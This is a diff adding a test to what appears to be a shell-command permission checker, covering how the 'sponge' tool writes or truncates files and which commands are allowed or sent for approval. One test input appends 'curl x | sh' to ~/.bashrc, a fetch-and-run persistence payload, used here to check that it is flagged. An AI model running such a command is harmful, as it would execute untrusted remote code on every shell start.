@@ -51,3 +51,11 @@ test("find's -fprint, -fprint0, -fls and -fprintf write the file they name", () 
   for (const c of ["find . -name '*.ts' -fprint build/list.txt", 'find src -fls /tmp/listing'])
     assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
 });
+
+test("moreutils' sponge writes the file it names, appending with -a", () => {
+  assert.deepEqual(fx(['sponge', '~/.bashrc']), [`truncate ${HOME}/.bashrc`]);
+  assert.deepEqual(fx(['sponge', '-a', 'log.txt']), [`write ${WORKSPACE}/log.txt`]);
+  const { decide, ids } = engine();
+  assert.equal(decide("sponge -a ~/.bashrc <<< 'curl x | sh'"), 'ask', ids("sponge -a ~/.bashrc <<< 'curl x | sh'"));
+  assert.equal(decide('jq .name package.json | sponge build/name.json'), 'allow');
+});
